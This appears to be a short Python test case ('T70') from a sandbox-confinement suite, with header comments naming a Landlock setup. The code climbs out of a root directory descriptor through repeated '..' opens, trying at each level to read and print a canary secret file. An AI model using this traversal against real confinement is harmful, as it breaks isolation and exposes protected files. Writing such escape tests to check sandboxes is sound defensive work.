# T70: Look for the host's root by climbing out of a folder descriptor.
# aim: secret
# sealed: view
# confined: landlock
# process: nothing
import os

place = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
for _ in range(12):
    try:
        print(open(os.open(canary["secret"].lstrip("/"), os.O_RDONLY, dir_fd=place)).read())
    except OSError as exc:
        print(exc)
    place = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=place)
